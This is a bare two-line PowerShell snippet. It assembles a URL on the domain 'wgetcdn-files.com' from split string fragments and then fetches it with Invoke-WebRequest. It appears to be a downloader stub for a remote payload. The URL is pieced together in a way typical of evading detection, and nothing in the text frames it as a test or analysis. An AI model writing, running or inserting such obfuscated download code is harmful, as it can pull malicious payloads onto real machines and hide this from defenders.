$u = ('https://','wgetcdn-files','.com','/psjoin') -join ''
iwr $u
